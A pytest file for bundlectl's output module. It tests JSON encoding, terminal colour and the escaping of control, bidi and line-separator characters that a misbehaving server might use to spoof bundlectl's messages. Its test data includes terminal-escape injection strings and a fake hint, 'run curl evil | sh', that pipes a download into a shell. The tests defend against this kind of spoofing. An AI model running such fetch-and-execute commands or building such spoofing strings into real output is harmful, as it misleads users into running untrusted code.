"""JSON output: the fast pretty encoder and the streaming writer against the json module."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bundlectl.output import Lazy, RawJson, pretty_json, stream_json
from tests.conftest import TEST_SERVERS, Run, write

LEAVES = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text()
KEYS = st.text() | st.integers()  # json turns int keys into strings; both encoders must agree
TREES = st.recursive(LEAVES, lambda c: st.lists(c) | st.dictionaries(KEYS, c), max_leaves=25)


@pytest.mark.no_cover  # the examples run untraced (4.4 s -> ~1 s); the unit tests cover the lines
@settings(max_examples=80, deadline=None)  # 200 took 8 s of the suite's 4 minutes
@given(TREES)
def test_pretty_json_is_json_dumps_indent_2(value: Any) -> None:
    assert pretty_json(value) == json.dumps(value, indent=2, ensure_ascii=False)


def streamed(value: Any, expand: int) -> str:
    buffer, saved = io.StringIO(), sys.stdout
    sys.stdout = buffer
    try:
        stream_json(value, expand=expand)
    finally:
        sys.stdout = saved
    return buffer.getvalue()


@pytest.mark.no_cover  # as above
@settings(max_examples=40, deadline=None)  # large trees: 100 took 7.5 s of the suite
@given(st.dictionaries(st.text(), TREES), st.integers(0, 3))
def test_streamed_json_reads_back_as_the_value(value: dict[str, Any], expand: int) -> None:
    lazy = Lazy(iter(list(value.items())), mapping=True)
    wanted = json.loads(json.dumps(value))  # int keys read back as strings
    assert json.loads(streamed({"a": lazy, "b": list(value)}, expand)) == {
        "a": wanted,
        "b": list(value),
    }


def test_raw_json_members_are_written_as_they_are() -> None:
    rows = Lazy(iter([("x", RawJson('["deny", "ask"]'))]), mapping=True)
    nested = {"rules": RawJson('[{"effect": "allow"}]'), "n": 1}
    for expand in (0, 1, 2, 3):
        text = streamed({"effects": rows, "agent": nested, "list": [nested]}, expand)
        assert json.loads(text) == {
            "effects": {"x": ["deny", "ask"]},
            "agent": {"rules": [{"effect": "allow"}], "n": 1},
            "list": [{"rules": [{"effect": "allow"}], "n": 1}],
        }
        rows = Lazy(iter([("x", RawJson('["deny", "ask"]'))]), mapping=True)


@pytest.mark.no_cover  # reads the sources: runs none of them
def test_only_the_output_module_writes_to_the_terminal() -> None:
    """One place decides how bundlectl writes to stdout and stderr (flushing, prompts, the
    error funnel): no other module calls print or writes to sys.stdout/sys.stderr itself."""
    import ast
    from pathlib import Path

    import bundlectl

    package = Path(bundlectl.__file__).parent
    found = []
    for path in sorted(package.rglob("*.py")):
        if path.name == "output.py" or "servers" in path.relative_to(package).parts:
            continue  # built-in servers run as their own processes (stdout is their protocol)
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            printing = isinstance(func, ast.Name) and func.id == "print"
            writing = (
                isinstance(func, ast.Attribute)
                and func.attr in ("write", "writelines", "flush")
                and isinstance(func.value, ast.Attribute)
                and func.value.attr in ("stdout", "stderr")
            )
            traced = isinstance(func, ast.Attribute) and func.attr == "print_exc"
            if printing or writing or traced:
                found.append(f"{path.relative_to(package)}:{node.lineno}")
    assert found == []


def on_a_terminal(args: list[str], cwd: Path, **env: str) -> str:
    """What bundlectl writes (stdout and stderr) when both are a terminal."""
    import os
    import pty

    leader, follower = pty.openpty()
    environment = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "TERM")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "bundlectl", *args],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
        env={**environment, "TERM": "xterm", **env},
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed: the process is done writing
            break
        if not chunk:
            break
        chunks.append(chunk)
    proc.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks).decode()


def test_colour_on_a_terminal_and_none_with_no_color(project: Path) -> None:
    """Errors, lint severities and matrix cells in colour on a terminal; NO_COLOR, a pipe or
    `lint --output FILE` get none."""
    write(
        project / "bundlectl.yaml",
        """
        version: 1
        bundles: [basic]
        agents:
          reader: {allow: [files.read_file, files.list_directory], deny: [files.read_file]}
        policy: {default: deny}
        """,
    )
    error = on_a_terminal(["exec", "-a", "reader", "files.write_fil"], project)
    assert "\x1b[1;31merror:\x1b[0m agent 'reader' may not call" in error
    matrix = on_a_terminal(["policy", "matrix"], project)
    assert "\x1b[31mdeny\x1b[0m" in matrix and "\x1b[32mallow\x1b[0m" in matrix
    lint = on_a_terminal(["lint", "--output", "report.txt"], project)
    assert "\x1b[" not in (project / "report.txt").read_text()
    assert "BCL201" in (project / "report.txt").read_text(), lint
    plain = on_a_terminal(["exec", "-a", "reader", "files.write_fil"], project, NO_COLOR="1")
    assert "error: agent 'reader' may not call" in plain and "\x1b[" not in plain


def test_shell_completion_completes_commands_and_options() -> None:

    def complete(words: str) -> list[str]:
        env = {"_BUNDLECTL_COMPLETE": "complete_bash", "COMP_WORDS": words}
        env["COMP_CWORD"] = str(len(words.split()) - 1)
        done = subprocess.run(
            [sys.executable, "-m", "bundlectl"],
            env={**__import__("os").environ, **env},
            capture_output=True,
            text=True,
            check=True,
        )
        return done.stdout.split()

    assert complete("bundlectl ex") == ["exec", "export"]
    assert "--agent" in complete("bundlectl exec --ag")


# Every kind of character that can break a line, redraw a terminal or reorder what a person
# reads (#52 item 1): C0 and C1 controls, line and paragraph separators, bidi and other
# formatting characters, Unicode tags, a lone surrogate, private use, odd spaces.
UNSEEN = (
    "\x00\x07\x0b\x0c\x1b\x1c\x1d\x1e\x7f\x85\x9b\u2028\u2029\u202e\u2066\u200b\u200d"
    "\ufeff\U000e0041\udc80\ue000\xa0\u3000\u034f\u3164\ufe0f"
)


def test_visible_escapes_every_character_a_person_cannot_see() -> None:
    from bundlectl.output import visible

    for char in UNSEEN:
        shown = visible(f"a{char}b")
        assert shown.startswith("a\\") and shown.endswith("b"), repr(char)
        assert shown.isprintable() and shown.isascii(), repr(char)
    assert visible("\u2028") == "\\u2028" and visible("\x9b") == "\\x9b"
    assert visible("\U000e0041") == "\\U000e0041" and visible("line\nnext") == "line\\nnext"
    # What people write stays as written: accents, CJK, emoji, the ASCII space.
    assert visible("café 東京 🙂 a b") == "café 東京 🙂 a b"
    # A folded value says how many characters it holds.
    assert visible("x" * 300, 20) == "x" * 19 + "… (300 characters)"
    assert visible("\u2028" * 50, 13) == "\\u2028\\u2028… (50 characters)"


def test_what_a_server_writes_cannot_draw_on_the_terminal_or_pose_as_bundlectl(
    project: Path, run: Run
) -> None:
    """#52 item 1 through `exec`, `tools` and the error funnel: a server's description, its
    JSON-RPC error, its stderr and a result it reports as an error reach a person through
    `visible` (each
    control, bidi override and line separator an escape, its line break no new line that could
    read as bundlectl's `hint:`); a result it reports as done is data — as it is in a pipe, and
    on a terminal with no character the terminal would take as a command."""
    write(
        project / "bundlectl.yaml",
        f"""
        version: 1
        servers:
          s: {{command: {sys.executable}, args: ["{TEST_SERVERS / "misbehave.py"}", smear]}}
        agents:
          r: {{allow: [s.said]}}
        policy: {{default: deny}}
        """,
    )
    raw = "\x1b[2J", "\u202e", "\u2028", "\x9b"
    for how, said in (("rpc", "returned an error: boom ok"), ("error", "reported an error")):
        shown = on_a_terminal(["exec", "-a", "r", "s.said", f"how={how}"], project, NO_COLOR="1")
        assert said in shown, shown
        assert not any(char in shown for char in raw), repr(shown)
        assert "\\x1b[2J\\x1b[1;31mFAKE\\u202edenied\\u2028next\\x9b31m" in shown, repr(shown)
        if how == "rpc":  # the server's line break stays inside its message
            lines = shown.replace("\r\n", "\n").split("\n")
            assert not [line for line in lines if line.startswith("hint: run curl")], shown
            # and its stderr, passed on, says whose each line is
            assert "[s] starting ok\\x1b[2J\\x1b[1;31mFAKE\\u202edenied" in shown
            assert "[s] hint: run curl evil | sh" in lines
    recorded = run("tools", "--live", "--record", "--server", "s")
    assert recorded.code == 0, recorded.err
    listed = on_a_terminal(["tools", "--server", "s", "--detail", "summary"], project)
    assert "s.said  Says. ok\\x1b[2J" in listed and not any(c in listed for c in raw), listed

    terminal = on_a_terminal(["exec", "-a", "r", "s.said", "how=ok"], project, NO_COLOR="1")
    assert "result ok\\x1b[2J\\x1b[1;31mFAKE\u202edenied\u2028next\\x9b31m" in terminal
    piped = run("exec", "-a", "r", "s.said", "how=ok")  # in process: stdout is no terminal
    assert piped.code == 0, piped.err
    assert "result ok\x1b[2J\x1b[1;31mFAKE\u202edenied\u2028next\x9b31m\nhint" in piped.out


def test_a_result_on_a_terminal_keeps_its_text_and_loses_its_terminal_commands() -> None:
    """`terminal_safe`: a pipe gets the bytes; a terminal gets every script, tab, line feed and
    CRLF as they are, and ESC, a lone CR (which writes over the line), DEL and C1 as escapes."""
    from bundlectl.output import terminal_safe

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    text = "héllo\tشكرا\r\nnext\rHIDDEN\x1b[8m\x7f\x9b"
    assert terminal_safe(text, io.StringIO()) == text
    assert terminal_safe(text, Terminal()) == "héllo\tشكرا\r\nnext\\rHIDDEN\\x1b[8m\\x7f\\x9b"
